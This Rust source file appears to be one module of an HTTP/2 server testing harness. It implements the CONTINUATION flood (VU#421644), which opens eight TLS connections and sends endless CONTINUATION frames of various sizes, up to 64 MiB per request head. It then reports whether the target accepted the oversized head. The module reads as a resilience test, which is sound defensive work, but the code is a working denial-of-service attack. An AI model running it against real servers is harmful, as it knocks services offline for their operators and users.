//! CONTINUATION flood (VU#421644): one request's head goes on for ever.

use super::{Attack, source};
use crate::frames::{Frames, MAX_FRAME, kind};
use crate::scene::{Seen, Stage};
use crate::stranger::{Connection, tls};
use anyhow::Result;
use std::io;
use std::time::Duration;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

pub(super) const ATTACK: Attack = Attack {
    name: "continuation",
    about: "one request head without end on each of 8 connections, in long, short and empty frames",
    waits: false,
    run: |stage| Box::pin(run(stage)),
};

const CONNECTIONS: u8 = 8;
/// Of one head: far more than anybody may need.
const MOST: usize = 64 << 20;
const PAUSE: Duration = Duration::from_millis(100);
/// What a frame carries, in turn by connection.
const SIZES: [usize; 4] = [MAX_FRAME, 256, 1, 0];
/// A field that is not kept: a new name of one letter, without a value.
const FIELD: [u8; 4] = [0x10, 1, b'x', 0];

async fn run(stage: Stage) -> Result<Seen> {
    let scene = stage.coordinator().await?;
    let address = scene.target.address();
    let until = Instant::now() + stage.either(Duration::from_secs(4), Duration::from_secs(20));
    scene
        .judge(async move {
            let mut floods = JoinSet::new();
            for number in 0..CONNECTIONS {
                let size = SIZES[usize::from(number) % SIZES.len()];
                floods.spawn(async move {
                    let (mut sent, mut most, mut connections) = (0, 0, 0);
                    while Instant::now() < until {
                        if let Ok(stream) = tls(address, source(1 + number)).await {
                            connections += 1;
                            let mut bytes = 0;
                            let _ = go_on(stream, size, until, &mut bytes).await;
                            (sent, most) = (sent + bytes, most.max(bytes));
                        }
                        sleep(PAUSE).await;
                    }
                    (sent, most, connections)
                });
            }
            let all = floods.join_all().await;
            let (sent, connections) = all.iter().fold((0, 0), |sum, one| (sum.0 + one.0, sum.1 + one.2));
            let longest: usize = all.iter().map(|one| one.1).max().unwrap_or(0);
            let saw = format!("{} KiB on {connections} connections, {} KiB on one", sent >> 10, longest >> 10);
            Ok(Seen::saw(saw).unless(longest < MOST, || format!("a head of {} MiB was taken", longest >> 20)))
        })
        .await
}

/// Goes on with a head until the connection is ended; empty frames count as their heads.
async fn go_on(
    stream: Box<dyn crate::stranger::Stream>,
    size: usize,
    until: Instant,
    sent: &mut usize,
) -> io::Result<()> {
    let connection = Connection::open(stream, &[]).await?;
    connection.send(&Frames::default().begun_request(1, &[0x83])).await?;
    // Fields must not be cut in two where frames are shorter than they are: then nothing but a part of one is sent.
    let payload: Vec<u8> = FIELD.into_iter().cycle().take(size).collect();
    let batch = (MAX_FRAME / size.max(9)).max(1);
    while *sent < MOST && Instant::now() < until && !connection.is_over() {
        let mut frames = Frames::default();
        for _ in 0..batch {
            frames = frames.frame(kind::CONTINUATION, 0, 1, &payload);
        }
        connection.send(&frames).await?;
        *sent += frames.0.len();
    }
    Ok(())
}
